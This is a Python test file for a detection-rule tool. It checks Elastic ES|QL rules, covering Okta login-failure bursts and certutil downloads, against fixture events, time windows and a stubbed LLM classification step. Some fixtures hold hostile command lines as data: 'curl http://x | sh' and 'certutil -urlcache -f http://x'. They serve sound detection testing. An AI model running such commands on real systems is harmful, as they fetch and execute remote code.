"""Fixture cases of ES|QL rules: alerts as Kibana raises them, and explanations that name the
command and the value."""

from __future__ import annotations

from ruleops.engine import run_check
from ruleops.fixtures.generate import draft_fixture
from ruleops.fixtures.suite import run_paths
from ruleops.loading import load_rule

HEADER = 'rule_id = "11111111-1111-4111-8111-111111111111"\n'

AGGREGATING = """
from logs-okta* metadata _id, _index, _version
| where event.action == "user.session.start" and event.outcome == "failure"
| stats Esql.count = count(*), Esql.users = count_distinct(user.name) by source.ip
| where Esql.users >= 3
| keep Esql.*, source.ip
"""

NON_AGGREGATING = """
from logs-endpoint.events.process-* metadata _id, _index, _version
| where process.name == "certutil.exe" and process.command_line like "*urlcache*"
| keep _id, _index, _version, process.name, host.name
"""


def failure(user: str, ip: str = "10.0.0.9", at: str = "2024-05-01T10:00:00Z", **extra) -> str:
    fields = {
        "@timestamp": at,
        "event.action": "user.session.start",
        "event.outcome": "failure",
        "user.name": user,
        "source.ip": ip,
        **extra,
    }
    return "[[case.events]]\n" + "".join(f"{_key(k)} = {_toml(v)}\n" for k, v in fields.items())


def _key(name: str) -> str:
    return f'"{name}"' if name.startswith("@") else name


def _toml(value) -> str:
    if isinstance(value, list):
        return "[" + ", ".join(_toml(v) for v in value) + "]"
    return f'"{value}"'


def case(name: str, expect: str, *events: str, extra: str = "") -> str:
    return f'\n[[case]]\nname = "{name}"\nexpect = "{expect}"\n{extra}' + "".join(events)


def run(repo, query: str, body: str, extra: str = ""):
    repo.rule("okta/rule.toml", query, type="esql", language="esql", extra=extra)
    repo.fixture("okta/rule.toml", HEADER + body)
    (result,) = run_paths([repo.root / "rules"], repo.config()).results
    return result


def test_a_burst_over_the_threshold_raises_one_alert(rule_repo):
    events = [failure(u) for u in ("ann", "bob", "cid")]
    body = case(
        "three users",
        "match",
        *events,
        extra='alerts = 1\nrows = [{ "Esql.users" = 3, "source.ip" = "10.0.0.9" }]\n',
    )
    assert run(rule_repo, AGGREGATING, body).outcome == "pass"


def test_a_group_under_the_threshold_is_named_with_its_value(rule_repo):
    body = case("two users", "match", failure("ann"), failure("bob"))
    result = run(rule_repo, AGGREGATING, body)
    assert result.outcome == "fail"
    assert (
        'group source.ip = "10.0.0.9": Esql.users >= 3 is false (Esql.users = 2)'
        in result.explanation
    )


def test_a_multi_valued_field_in_a_comparison_is_explained(rule_repo):
    events = [failure(u, **{"event.outcome": ["failure", "unknown"]}) for u in ("a", "b", "c")]
    result = run(rule_repo, AGGREGATING, case("trap", "match", *events))
    assert result.outcome == "fail"
    assert "event.outcome has several values" in result.explanation
    assert "single-value function encountered multi-value" in result.explanation


def test_alerts_counts_the_alerts(rule_repo):
    events = [failure(u, ip) for u in ("a", "b", "c") for ip in ("10.0.0.1", "10.0.0.2")]
    body = case("two addresses", "match", *events, extra="alerts = 1\n")
    result = run(rule_repo, AGGREGATING, body)
    assert (
        result.outcome == "fail"
        and "the rule raised 2 alerts, the case expects 1" in result.explanation
    )


def test_an_event_outside_the_window_is_named(rule_repo):
    events = [failure(u) for u in ("ann", "bob")] + [failure("cid", at="2024-05-01T08:00:00Z")]
    result = run(rule_repo, AGGREGATING, case("old", "match", *events))
    assert (
        "event 2 (line" in result.explanation and "outside the rule's window" in result.explanation
    )


def test_now_fixes_the_window(rule_repo):
    events = [failure(u, at="2024-05-01T10:00:00Z") for u in ("ann", "bob", "cid")]
    body = case("later", "no match", *events, extra='now = "2024-05-01T12:00:00Z"\n')
    assert run(rule_repo, AGGREGATING, body).outcome == "pass"


OVERRIDE = 'timestamp_override = "event.ingested"\n'


def test_an_event_without_the_override_field_is_windowed_by_its_timestamp(rule_repo):
    """Kibana's time range: the override field in range, or no override field and
    @timestamp in range (build_events_query.ts buildTimeRangeFilter)."""
    events = [failure(u, at="2024-05-01T10:15:00Z") for u in ("ann", "bob", "cid")]
    body = case("recent", "match", *events, extra='now = "2024-05-01T10:20:00Z"\n')
    assert run(rule_repo, AGGREGATING, body, extra=OVERRIDE).outcome == "pass"


def test_an_old_timestamp_without_the_override_field_stays_outside_the_window(rule_repo):
    events = [failure(u, at="2024-05-01T08:00:00Z") for u in ("ann", "bob", "cid")]
    body = case("old", "no match", *events, extra='now = "2024-05-01T10:20:00Z"\n')
    assert run(rule_repo, AGGREGATING, body, extra=OVERRIDE).outcome == "pass"


def test_the_override_field_wins_over_the_timestamp(rule_repo):
    events = [
        failure(u, at="2024-05-01T10:15:00Z", **{"event.ingested": "2024-05-01T08:00:00Z"})
        for u in ("ann", "bob", "cid")
    ]
    body = case("ingested late", "no match", *events, extra='now = "2024-05-01T10:20:00Z"\n')
    assert run(rule_repo, AGGREGATING, body, extra=OVERRIDE).outcome == "pass"


def process(name: str, command_line: str, **extra) -> str:
    fields = {"process.name": name, "process.command_line": command_line, "host.name": "h", **extra}
    return "[[case.events]]\n" + "".join(f"{_key(k)} = {_toml(v)}\n" for k, v in fields.items())


def test_a_non_aggregating_rule_matches_and_misses(rule_repo):
    body = case("download", "match", process("certutil.exe", "certutil -urlcache -f http://x"))
    body += case("near miss", "no match", process("certutil.exe", "certutil -decode a b"))
    rule_repo.rule("w/rule.toml", NON_AGGREGATING, type="esql", language="esql")
    rule_repo.fixture("w/rule.toml", HEADER + body)
    results = run_paths([rule_repo.root / "rules"], rule_repo.config()).results
    assert [r.outcome for r in results] == ["pass", "pass"]


def test_a_broken_non_aggregating_case_names_the_where_and_the_value(rule_repo):
    body = case("wrong name", "match", process("certutil", "certutil -urlcache"))
    rule_repo.rule("w/rule.toml", NON_AGGREGATING, type="esql", language="esql")
    rule_repo.fixture("w/rule.toml", HEADER + body)
    (result,) = run_paths([rule_repo.root / "rules"], rule_repo.config()).results
    assert "dropped by WHERE (line 2 of the query): " in result.explanation
    seen = 'process.name == "certutil.exe" is false (process.name = "certutil")'
    assert seen in result.explanation


def test_fixtures_generate_drafts_a_burst_for_an_aggregating_rule(rule_repo):

    path = rule_repo.rule("okta/rule.toml", AGGREGATING, type="esql", language="esql")
    draft = draft_fixture(load_rule(path, "rules/okta/rule.toml").rule)
    assert draft.ok
    assert [c.expect for c in draft.cases][:2] == ["match", "no match"]
    assert len(draft.cases[0].events) == 3  # three distinct users reach Esql.users >= 3


def test_fixtures_generate_drafts_match_and_near_miss_for_an_event_rule(rule_repo):

    path = rule_repo.rule("w/rule.toml", NON_AGGREGATING, type="esql", language="esql")
    draft = draft_fixture(load_rule(path, "rules/w/rule.toml").rule)
    assert draft.ok and {"match", "no match"} <= {c.expect for c in draft.cases}


def test_a_completion_answer_stands_in_for_the_llm(rule_repo):
    query = """
    from logs-endpoint* metadata _id, _index, _version
    | where process.name == "curl"
    | eval prompt = concat("classify: ", process.command_line)
    | completion verdict = prompt with { "inference_id": "x" }
    | where verdict == "malicious"
    | keep _id, _index, _version, verdict
    """
    body = case(
        "llm says malicious",
        "match",
        process("curl", "curl http://x | sh"),
        extra='completion = "malicious"\n',
    )
    body += case("no answer given", "match", process("curl", "curl http://x"))
    rule_repo.rule("w/rule.toml", query, type="esql", language="esql")
    rule_repo.fixture("w/rule.toml", HEADER + body)
    passed, unanswered = run_paths([rule_repo.root / "rules"], rule_repo.config()).results
    assert passed.outcome == "pass"
    assert "does not evaluate COMPLETION" in unanswered.explanation


def test_a_field_read_only_inside_kql_is_no_unread_field(rule_repo):
    query = NON_AGGREGATING.replace(
        "| keep", '| where not KQL("""process.parent.name : "explorer.exe" """)\n| keep'
    )
    rule_repo.rule("okta/rule.toml", query, type="esql", language="esql")
    event = failure("a", **{"process.name": "certutil.exe", "process.parent.name": "cmd.exe"})
    rule_repo.fixture("okta/rule.toml", HEADER + case("parent", "no match", event))
    result = run_check([rule_repo.root / "rules"], rule_repo.config(), cache=False)
    unread = [d.message for d in result.diagnostics if d.code == "RO506"]
    assert unread and not any("process.parent.name" in m for m in unread)


def test_a_query_elasticsearch_rejects_fails_its_cases_with_the_reason(rule_repo):
    query = (
        'from logs-* metadata _id, _index, _version | where cidr_match(process.name, "10.0.0.0/8")'
    )
    body = case("any", "match", process("cmd.exe", "cmd"))
    rule_repo.rule("w/rule.toml", query, type="esql", language="esql")
    rule_repo.fixture("w/rule.toml", HEADER + body)
    (result,) = run_paths([rule_repo.root / "rules"], rule_repo.config()).results
    assert result.outcome == "fail"
    assert result.explanation.startswith("not run: Elasticsearch would reject this query: ")
